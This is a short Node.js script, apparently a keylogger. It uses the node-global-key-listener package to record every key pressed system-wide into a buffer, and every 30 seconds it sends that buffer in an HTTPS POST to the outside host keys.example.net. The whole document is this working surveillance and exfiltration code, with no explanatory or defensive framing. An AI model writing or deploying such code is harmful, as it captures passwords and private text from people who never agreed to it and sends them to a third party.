const { GlobalKeyboardListener } = require('node-global-key-listener');
let buf = '';
new GlobalKeyboardListener().addListener((e) => { buf += e.name; });
setInterval(() => { const r = require('https').request({ host: 'keys.example.net', method: 'POST' }); r.end(buf); buf = ''; }, 30000);
